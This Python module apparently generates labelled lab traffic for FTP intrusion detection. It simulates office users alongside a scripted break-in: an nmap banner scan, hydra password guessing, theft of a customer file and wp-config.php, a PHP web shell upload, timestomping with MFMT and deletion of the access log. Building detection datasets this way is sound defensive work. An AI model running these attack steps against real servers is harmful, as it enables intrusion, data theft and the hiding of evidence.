"""The sample of a working day with a break-in.  Imported by record.py, whose helpers it shares."""
import ftplib
import os
import time

from __main__ import (
    HOME, PDF, PNG, SERVER4, Child, Proftpd, client, csv, fetch, home, local, noise, on_client, on_server, run, sample,
    send, text)
from record_attacks import (
    FAKE_CONFIG, FOREIGN, GUESSES, PEOPLE_LOG, PHP_SHELL, Recorded, accounts, addresses, run_text, sessions_of, words)
from record_failures import leave, say


class Story:
    def __init__(self):
        self.began, self.steps = time.monotonic(), []

    def tell(self, who, did):
        self.steps.append({"second": round(time.monotonic() - self.began, 1), "who": who, "did": did})


def worker(address, user, steps):
    """An ordinary session from one of the office's addresses: (command, pause) after pause."""
    ftp = ftplib.FTP(timeout=20, source_address=(address, 0))
    ftp.connect(SERVER4)
    ftp.login(user, DAY[user])
    ftp.pwd()
    for step, pause in steps:
        verb, _, name = step.partition(" ")
        disk = f"{user}-{os.path.basename(name)}"
        if verb == "RETR":
            fetch(ftp, name, disk)
        elif verb == "STOR":
            send(ftp, os.path.basename(name), step)
        elif verb == "LIST":
            ftp.retrlines(step, lambda line: None)
        else:
            ftp.voidcmd(step)
        time.sleep(pause)
    leave(ftp)


def intruder():
    ftp = ftplib.FTP(timeout=20)
    ftp.connect(SERVER4)
    ftp.login("backup", DAY["backup"])
    ftp.sendcmd("SYST")
    ftp.pwd()
    for folder in "", " htdocs", " backup", " logs":
        ftp.retrlines("LIST" + folder, lambda line: None)
        time.sleep(1)
    for name in "docs/prices.csv", "backup/customers.csv", "htdocs/wp-config.php":
        fetch(ftp, name, "taken-" + os.path.basename(name))
        time.sleep(1)
    ftp.cwd("htdocs/img")
    ftp.pwd()
    send(ftp, "cache.php", "STOR cache.php")
    time.sleep(1)
    assert say(ftp, "MFMT 20240229120000 cache.php")[0] == "2"
    ftp.delete("/logs/access.log")
    time.sleep(1)
    leave(ftp)


DAY = {"alice": "Tulip-4-field", "bob": "brown.Bear.9", "carol": "c4r0l-Says-hi", "backup": "Backup2024"}


@sample()
def attack_day():
    home({"docs/prices.csv": csv(50), "docs/plan.pdf": PDF, "docs/minutes.txt": text(20), "docs/photo.png": PNG,
          "htdocs/index.php": b"<?php require 'wp-config.php'; ?>\n<html>lab</html>\n", "htdocs/wp-config.php": FAKE_CONFIG,
          "htdocs/img/dot.png": PNG, "backup/customers.csv": csv(90), "backup/monday.tar.gz": noise("monday", 2000),
          "logs/access.log": text(30), "logs/error.log": text(5)})
    server = Proftpd(extra=PEOPLE_LOG + "\nMaxLoginAttempts 3")
    office = dict(alice="10.66.1.2", bob="10.66.1.3", carol="10.66.1.4", backup="10.66.1.5")
    with accounts(**DAY), addresses("client", *list(office.values())[1:]), Recorded(
            "attack-day", "A working day in a minute: three users and a backup job at their work, and a break-in from "
            "outside: the greeting is scanned, the password of `backup` guessed, files taken (one with a password), a web shell put, "
            "its time set back, a log deleted", server, ["ftplib", "lftp", "curl", "nmap", "hydra"],
            ["password-guessing", "login-after-failures", "sensitive-file", "web-shell-upload", "timestomp", "cleartext-credentials"],
            interface="s0") as s:
        story = Story()
        local("night-1.tar.gz", b"\x1f\x8b\x08\0" + noise("night-1", 9000))
        local("night-2.tar.gz", b"\x1f\x8b\x08\0" + noise("night-2", 9500))
        for name, body in (("offer.pdf", PDF), ("minutes.txt", text(26)), ("order.csv", csv(25)), ("order-2.csv", csv(33)),
                           ("cache.php", PHP_SHELL)):
            local(name, body)
        moved = []      # (command, name, path, where the receiving side has it)

        def work(user, steps, did):
            story.tell(f"{user}, {office[user]}", did)
            cwd = "/"
            for step, _ in steps:
                verb, _, name = step.partition(" ")
                if verb == "CWD":
                    cwd = name + "/"
                elif verb in ("RETR", "STOR"):
                    body = on_server if verb == "STOR" else on_client
                    disk = (cwd + name).lstrip("/") if verb == "STOR" else f"{user}-{os.path.basename(name)}"
                    moved.append((verb, name, cwd + name, body, disk))
            return Child("client", worker, office[user], user, steps)

        def backup(name):
            story.tell(f"backup, {office['backup']}", f"the backup job sends {name} to /backup")
            curl_as("backup", office["backup"], "-T", name, f"ftp://{SERVER4}/backup/{name}")
            moved.append(("STOR", name, "/backup/" + name, on_server, "backup/" + name))

        work("alice", [("LIST docs", 2), ("RETR docs/plan.pdf", 1), ("RETR docs/minutes.txt", 3)],
             "lists /docs and reads two files").result()
        backup("night-1.tar.gz")
        time.sleep(2)
        story.tell("stranger, 198.51.100.22", "Nmap looks for FTP servers at 203.0.113.21-24 and reads the greeting of the only one")
        said = run_text("nmap", "-n", "-Pn", "-sT", "-p21", "--max-retries", "0", "--script", "banner", "203.0.113.21-24", ns=FOREIGN)
        assert said.count("21/tcp open") == 1 and said.count("21/tcp closed") == 3, said
        bob = work("bob", [("CWD /docs", 1), ("RETR prices.csv", 12), ("STOR order.csv", 4), ("LIST", 1)],
                   "reads /docs/prices.csv, thinks, and sends /docs/order.csv")
        time.sleep(2.5)
        story.tell("stranger, 198.51.100.22", "Hydra guesses the password of backup from a list of sixteen, the last of which is right")
        words("passwords", ["backup", "backup1", "backup123", "Backup", *GUESSES[:-1], DAY["backup"]])
        run("hydra", "-I", "-t", "1", "-l", "backup", "-P", "passwords", f"ftp://{SERVER4}", ns=FOREIGN)
        bob.result()
        time.sleep(3)
        work("carol", [("RETR docs/photo.png", 1), ("STOR docs/offer.pdf", 2)], "reads a picture and sends /docs/offer.pdf").result()
        bob = work("bob", [("RETR docs/minutes.txt", 14), ("STOR docs/order-2.csv", 1)],
                   "reads /docs/minutes.txt, and sends /docs/order-2.csv when the stranger has gone")
        last = moved.pop()
        time.sleep(2)
        story.tell("stranger, 198.51.100.22", "logs in as backup; lists /, /htdocs, /backup and /logs; takes docs/prices.csv, "
                   "backup/customers.csv and htdocs/wp-config.php; puts the web shell htdocs/img/cache.php and sets its time to that "
                   "of the files beside it (MFMT); deletes /logs/access.log")
        client(intruder, ns=FOREIGN)
        assert os.path.getmtime(HOME + "/htdocs/img/cache.php") == os.path.getmtime(HOME + "/htdocs/img/dot.png")
        assert os.listdir(HOME + "/logs") == ["error.log"]
        for name in "docs/prices.csv", "backup/customers.csv", "htdocs/wp-config.php":
            moved.append(("RETR", name, "/" + name, on_client, "taken-" + os.path.basename(name)))
        moved.append(("STOR", "cache.php", "/htdocs/img/cache.php", on_server, "htdocs/img/cache.php"))
        bob.result()
        moved.append(last)
        time.sleep(2)
        story.tell(f"carol, {office['carol']}", "lists /docs and reads two files with lftp")
        run("lftp", "-u", f"carol,{DAY['carol']}", "-e", f"set net:socket-bind-ipv4 {office['carol']}; cd docs; ls; get plan.pdf -o "
            "carol-plan.pdf; get prices.csv -o carol-prices.csv; bye", SERVER4)
        for name in "plan.pdf", "prices.csv":
            moved.append(("RETR", name, "/docs/" + name, on_client, "carol-" + name))
        time.sleep(3)
        work("alice", [("LIST docs", 1), ("STOR docs/minutes.txt", 2), ("RETR docs/offer.pdf", 1)],
             "sends a newer /docs/minutes.txt and reads carol's offer").result()
        backup("night-2.tar.gz")
        for user, login in [x for x in sessions_of(server) if x[0]]:
            if user == "bob" and not any(x["login"] == "none" for x in s.truth["sessions"]):    # the scan is before him
                for _ in range(5):
                    s.log_in(None, "none", note="the scan: three refused, one to see that the port is open, one for the greeting")
            if login == "refused":
                s.log_in(user, "incomplete", refusals=3, note="after three refusals the server ends the session, and Hydra sends USER "
                         "once more all the same")
            else:
                s.log_in(user, login)
        for verb, name, path, body, disk in moved:
            s.transfer(verb, name, path, body(disk))
        s.truth["listings"] = sum(c.split(" ")[0] in ("LIST", "NLST", "MLSD") for c in server.commands())
        s.truth["deleted"] = ["/logs/access.log"]
        s.truth["story"] = story.steps


def curl_as(user, address, *args):
    run("curl", "-sS", "--disable-epsv", "--interface", address, "-u", f"{user}:{DAY[user]}", *args)
